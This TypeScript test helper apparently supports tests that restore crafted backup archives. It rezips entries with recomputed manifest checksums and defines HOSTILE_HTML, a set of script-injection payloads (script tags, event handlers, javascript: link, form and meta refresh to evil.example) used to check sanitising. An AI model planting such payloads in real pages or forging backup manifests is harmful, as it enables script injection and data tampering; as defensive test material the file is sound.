import { createHash } from "node:crypto";
import yauzl from "yauzl";
import yazl from "yazl";

// Backups taken apart and put together again, for tests that restore a crafted one (a well-made archive of bad
// content).

/** The bytes of a zip that yazl writes. */
function zipBytes(zip: yazl.ZipFile): Promise<Buffer> {
  const chunks: Buffer[] = [];
  return new Promise((resolve) => {
    zip.outputStream.on("data", (chunk: Buffer) => chunks.push(chunk));
    zip.outputStream.on("end", () => resolve(Buffer.concat(chunks)));
  });
}

/** The entries of a zip, read with yauzl. */
export function unzip(archive: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(archive, { lazyEntries: true }, (error, zip) => {
      if (error || !zip) return reject(error ?? new Error("no zip"));
      const files = new Map<string, Buffer>();
      zip.on("end", () => resolve(files));
      zip.on("entry", (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (streamError, stream) => {
          if (streamError || !stream) return reject(streamError ?? new Error("no stream"));
          const chunks: Buffer[] = [];
          stream.on("data", (chunk: Buffer) => chunks.push(chunk));
          stream.on("end", () => {
            files.set(entry.fileName, Buffer.concat(chunks));
            zip.readEntry();
          });
        });
      });
      zip.readEntry();
    });
  });
}

/** A zip of these entries, with a manifest whose checksums and row counts match them. */
export function rezip(files: Map<string, Buffer>): Promise<Buffer> {
  const manifest = JSON.parse(files.get("manifest.json")!.toString("utf8")) as {
    tables: Record<string, number>;
    entries: { path: string; sha256: string; bytes: number }[];
  };
  for (const [name, bytes] of files) {
    const table = /^data\/(\w+)\.json$/.exec(name)?.[1];
    if (table) manifest.tables[table] = (JSON.parse(bytes.toString("utf8")) as unknown[]).length;
  }
  manifest.entries = [...files.keys()]
    .filter((name) => name !== "manifest.json")
    .map((name) => ({
      path: name,
      sha256: createHash("sha256").update(files.get(name)!).digest("hex"),
      bytes: files.get(name)!.length,
    }));
  const zip = new yazl.ZipFile();
  for (const [name, bytes] of files) if (name !== "manifest.json") zip.addBuffer(bytes, name);
  zip.addBuffer(Buffer.from(JSON.stringify(manifest)), "manifest.json");
  zip.end();
  return zipBytes(zip);
}

/** The rows of a table of an archive's entries. */
export const tableOf = (files: Map<string, Buffer>, name: string) =>
  JSON.parse(files.get(`data/${name}.json`)!.toString("utf8")) as Record<string, unknown>[];

/** The entries with a table's rows replaced. */
export const withTable = (files: Map<string, Buffer>, name: string, rows: unknown[]) =>
  new Map([...files, [`data/${name}.json`, Buffer.from(JSON.stringify(rows))]]);

/**
 * What a hostile case study or article may carry: each would run, navigate or post from the site's pages. Each
 * script sets `window.ran` (or its parent's), which a test reads.
 */
export const HOSTILE_HTML =
  `<p>Text<script>window.ran = 1</script></p>` +
  `<img src="x" onerror="window.ran = 2"><p onclick="window.ran = 3">Click</p>` +
  `<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>` +
  `<a href="javascript:window.ran = 5">Link</a>` +
  `<form action="https://evil.example/"><input name="q"><button>Send</button></form>` +
  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`;
